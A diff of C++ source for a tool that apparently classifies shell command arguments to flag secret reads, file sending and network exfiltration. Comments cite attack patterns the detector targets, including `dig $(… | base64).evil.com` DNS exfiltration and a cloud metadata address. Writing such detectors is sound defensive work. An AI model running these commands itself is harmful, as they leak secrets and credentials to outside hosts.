@@ -20,7 +20,7 @@
 namespace pawl {
 namespace {
 
-// Branches that others build on; a ref that is not told counts as one.
+// Branches that others build on. A ref that is not named counts as one.
 [[nodiscard]] bool names_protected_branch(std::string_view ref) {
   if (ref.starts_with('+')) ref.remove_prefix(1);
   const std::size_t colon = ref.rfind(':');
@@ -48,8 +48,8 @@ namespace {
   return {};
 }
 
-// A header such as `Authorization: …` or `X-Api-Key: …` proves who asks; any other one is only said.
-// A `field` needs no blank behind the colon.
+// A header such as `Authorization: …` or `X-Api-Key: …` proves who asks; other headers only say something. A `field`
+// needs no blank behind the colon.
 [[nodiscard]] bool proves_who_asks(std::string_view header, bool is_field) {
   const std::size_t colon = header.find(':');
   if (colon == std::string_view::npos) return true;  // `user:password` has one, a cookie need not
@@ -62,7 +62,7 @@ namespace {
                      [&](std::string_view part) { return name.find(part) != std::string::npos; });
 }
 
-// httpie's `Name:value`; `name:=1` is a field of the body, `name==x` and `name=a:b` are none either.
+// httpie's `Name:value`; `name:=1` is a field of the body, `name==x` and `name=a:b` are not headers either.
 [[nodiscard]] bool is_header_field(std::string_view text) {
   const std::size_t sign = text.find_first_of("@=:/ ");
   return sign != std::string_view::npos && sign > 0 && text[sign] == ':' &&
@@ -85,33 +85,30 @@ bool is_remote_path(std::string_view text) {
 }
 
 StepReader::StepReader(const Arguments& arguments, StepContext& context)
-    : arguments_(arguments),
-      fact_(*arguments.fact),
-      context_(context),
-      sources_(context.stdin_sources),
-      sent_(context.stdin_sources),
-      first_effect_(context.out.effects.size()),
-      start_(context.cwd) {
-  if ((arguments.marks & fact_.recursive) != 0) attributes_ |= Attribute::recursive;
-  if ((arguments.marks & fact_.forced) != 0) attributes_ |= Attribute::forced;
-  for (const Argument& argument : arguments.values) all_.push_back(&argument);
-  for (const Argument& argument : arguments.operands) all_.push_back(&argument);
+    : arguments_(arguments), fact_(*arguments.fact), context_(context), start_(context.cwd) {
+  facts_.sources = context.stdin_sources;
+  facts_.sent = context.stdin_sources;
+  facts_.first_effect = context.out.effects.size();
+  if ((arguments.marks & fact_.recursive) != 0) facts_.attributes |= Attribute::recursive;
+  if ((arguments.marks & fact_.forced) != 0) facts_.attributes |= Attribute::forced;
+  for (const Argument& argument : arguments.values) facts_.all.push_back(&argument);
+  for (const Argument& argument : arguments.operands) facts_.all.push_back(&argument);
 }
 
-Sources StepReader::read() {
-  for (const Argument* argument : all_) take_in(*argument);
-  for (const Argument* argument : all_) {
-    if (argument->role == Role::sought) mark_sought_text(argument->text, first_effect_, context_);
+Sources StepReader::read(const Scope& scope) {
+  for (const Argument* argument : facts_.all) take_in(*argument);
+  for (const Argument* argument : facts_.all) {
+    if (argument->role == Role::sought) mark_sought_text(argument->text, facts_.first_effect, context_);
   }
   const bool decodes = (arguments_.marks & fact_.decodes) != 0;
-  if (decodes) sources_ |= Source::decoder;
-  if (fact_.encodes && !decodes) sources_ |= Source::encoder;
+  if (decodes) facts_.sources |= Source::decoder;
+  if (fact_.encodes && !decodes) facts_.sources |= Source::encoder;
   const bool tells_secret = std::any_of(arguments_.effects.begin(), arguments_.effects.end(), [](const EffectFact& e) {
     return e.kind == EffectKind::read && e.attributes.has(Attribute::shown);
   });
   const bool prints_secrets = fact_.prints_secrets && (arguments_.marks & fact_.quiet) == 0;
-  if ((prints_secrets || tells_secret) && arguments_.command.empty()) sources_ |= Source::secret;
-  if (tells_secret) sources_ |= Source::teller;
+  if ((prints_secrets || tells_secret) && arguments_.command.empty()) facts_.sources |= Source::secret;
+  if (tells_secret) facts_.sources |= Source::teller;
   if (serves_folder()) {
     Word folder;
     folder.text = ".";
@@ -119,20 +116,21 @@ Sources StepReader::read() {
     take_path(EffectKind::read, {Role::read, &folder, folder.text, {}}, folder.text, true, Attribute::recursive);
   }
   const bool connects =
-      !hosts_.empty() || std::any_of(arguments_.effects.begin(), arguments_.effects.end(),
-                                     [](const EffectFact& e) { return e.kind == EffectKind::connect; });
-  if (connects) sources_ |= Source::network;
-  for (const Argument* argument : all_) give_out(*argument);
-  say_effects();
-  return sources_;
+      !facts_.hosts.empty() || std::any_of(arguments_.effects.begin(), arguments_.effects.end(),
+                                           [](const EffectFact& e) { return e.kind == EffectKind::connect; });
+  if (connects) facts_.sources |= Source::network;
+  for (const Argument* argument : facts_.all) give_out(*argument);
+  add_program_effects(arguments_, facts_, scope, context_);
+  return facts_.sources;
 }
 
 void StepReader::take_in(const Argument& argument) {
   const bool is_header =
       argument.role == Role::header || (argument.role == Role::field && is_header_field(argument.text));
-  if (is_header && names_other_host(argument.text)) is_redirected_ = true;
-  sources_ |= argument.word->sources;
-  if (!is_header || !proves_who_asks(argument.text, argument.role == Role::field)) sent_ |= argument.word->sources;
+  if (is_header && names_other_host(argument.text)) facts_.is_redirected = true;
+  facts_.sources |= argument.word->sources;
+  if (!is_header || !proves_who_asks(argument.text, argument.role == Role::field))
+    facts_.sent |= argument.word->sources;
   // Roles that are not here take nothing in.
   struct Taking {
     Role role;
@@ -179,9 +177,9 @@ void StepReader::take_version(const Argument& argument) {
 }
 
 void StepReader::take_ref(const Argument& argument) {
-  has_ref_ = true;
-  refs_ += (refs_.empty() ? "" : " ") + argument.text;
-  has_protected_ref_ |= !argument.word->is_known() || names_protected_branch(argument.text);
+  facts_.has_ref = true;
+  facts_.refs += (facts_.refs.empty() ? "" : " ") + argument.text;
+  facts_.has_protected_ref |= !argument.word->is_known() || names_protected_branch(argument.text);
 }
 
 void StepReader::take_mode(const Argument& argument) {
@@ -192,7 +190,7 @@ void StepReader::take_mode(const Argument& argument) {
 
 void StepReader::take_data(const Argument& argument) {
   const std::string_view file = file_in_data(argument.text, argument.role == Role::field);
-  sends_file_ |= reads_file(argument.word->step);  // `-d "$(cat x)"`
+  facts_.sends_file |= reads_file(argument.word->step);  // `-d "$(cat x)"`
   if (!file.empty() && file != "-") take_path(EffectKind::read, argument, file, true);
   // curl takes several for one field: `-F files=@a,b`.
   if (const std::size_t comma = file.find(','); comma != std::string_view::npos)
@@ -282,21 +280,22 @@ void StepReader::note_host(const Argument& argument) {
   if (argument.text.starts_with("file:"))
     return take_path(EffectKind::read, argument, without_scheme(argument.text), false, Attribute::shown);
   constexpr std::size_t kMaxHosts = 64;
-  if (hosts_.size() >= kMaxHosts) return;
+  if (facts_.hosts.size() >= kMaxHosts) return;
   // `https://h.example/$ID`: the host is known although the rest is not.
   const std::string host = host_of(argument.text);
   const bool is_known = argument.word->is_known() ||
                         (argument.text.find("://") != std::string::npos &&
                          host.find_first_of("$`") == std::string::npos && host.find("…") == std::string::npos &&
                          argument.text.find_first_of("/?#", argument.text.find("://") + 3) != std::string::npos);
-  // `http://169.254.170.2$PATH`: behind a whole address comes a port or a path.
+  // `http://169.254.170.2$PATH`: a port or a path follows a whole address.
   const std::string address = is_known ? std::string() : address_in_front(argument.text);
   const std::string& name = is_known ? host : address.empty() ? argument.text : address;
   // `dig $(… | base64).evil.com`: the name itself is the message.
   if (argument.word->sources.has(Source::encoder) && (argument.role == Role::host || !is_known))
-    has_encoded_name_ = true;
-  if (has_user_info(argument.text)) is_redirected_ = true;
-  if (!name.empty() && std::find(hosts_.begin(), hosts_.end(), name) == hosts_.end()) hosts_.push_back(name);
+    facts_.has_encoded_name = true;
+  if (has_user_info(argument.text)) facts_.is_redirected = true;
+  if (!name.empty() && std::find(facts_.hosts.begin(), facts_.hosts.end(), name) == facts_.hosts.end())
+    facts_.hosts.push_back(name);
 }
 
 void StepReader::take_path(EffectKind kind, const Argument& argument, std::string_view text, bool is_sent,
@@ -305,17 +304,17 @@ void StepReader::take_path(EffectKind kind, const Argument& argument, std::strin
   text = without_scheme(text);
   const std::size_t before = context_.out.effects.size();
   const std::string folder = argument.role == Role::read_first ? std::exchange(context_.cwd, start_) : context_.cwd;
-  add_path_effect(kind, Action::none, *argument.word, text, attributes_ | extra, {}, context_);
+  add_path_effect(kind, Action::none, *argument.word, text, facts_.attributes | extra, {}, context_);
   context_.cwd = folder;
   if (context_.out.effects.size() == before) return;
   Effect& effect = context_.out.effects.back();
   if (fact_.looks) effect.classes.clear(PathClass::device);
   Sources found = sources_by_class(effect.classes);
-  const auto written = context_.scope.files->written.find(effect.object);
-  if (written != context_.scope.files->written.end()) found |= written->second;
-  // `tar xzf x-*.tgz`: what this call put there is meant as well.
+  const auto written = context_.files->written.find(effect.object);
+  if (written != context_.files->written.end()) found |= written->second;
+  // `tar xzf x-*.tgz`: files that this call put there match as well.
   if (effect.attributes.has(Attribute::wildcard)) {
-    for (const auto& [path, sources] : context_.scope.files->written) {
+    for (const auto& [path, sources] : context_.files->written) {
       if (!sources.is_empty() && matches_glob(effect.object, path)) found |= sources;
     }
   }
@@ -325,17 +324,17 @@ void StepReader::take_path(EffectKind kind, const Argument& argument, std::strin
     found |= Source::secret | Source::key;
   const bool is_read_whole = kind == EffectKind::read &&
                              (effect.attributes & (Attribute::recursive | Attribute::shown)) == Attribute::recursive;
-  // Who packs a folder of the project, or what nobody can see, packs more than one file that was meant.
+  // Packing a folder of the project, or one that is not known, packs more than one chosen file.
   const bool is_packed = argument.role == Role::read &&
                          effect.classes.has_any(PathClass::project | PathClass::unknown) &&
                          !effect.classes.has(PathClass::regenerable);
   if (is_read_whole && (effect.classes.has(PathClass::cwd) || is_packed)) found |= Source::project;
-  found |= sources_below(effect.object, context_.scope, context_.world);
-  sources_ |= found;
-  if (is_sent) sent_ |= found;
-  sends_file_ |= is_sent && kind == EffectKind::read;
-  sends_unknown_ |= is_sent && effect.classes.has(PathClass::unknown);
-  if (argument.role == Role::stage) context_.scope.files->staged |= found;
+  found |= sources_below(effect.object, *context_.files, context_.world);
+  facts_.sources |= found;
+  if (is_sent) facts_.sent |= found;
+  facts_.sends_file |= is_sent && kind == EffectKind::read;
+  facts_.sends_unknown |= is_sent && effect.classes.has(PathClass::unknown);
+  if (argument.role == Role::stage) context_.files->staged |= found;
 }
 
 bool StepReader::reads_file(int step) const {
@@ -362,8 +361,8 @@ Attributes what_is_carried(Sources sources) {
   return carried;
 }
 
-Sources add_effects(const Arguments& arguments, StepContext& context) {
-  return StepReader(arguments, context).read();
+Sources add_effects(const Arguments& arguments, const Scope& scope, StepContext& context) {
+  return StepReader(arguments, context).read(scope);
 }
 
 }  // namespace pawl
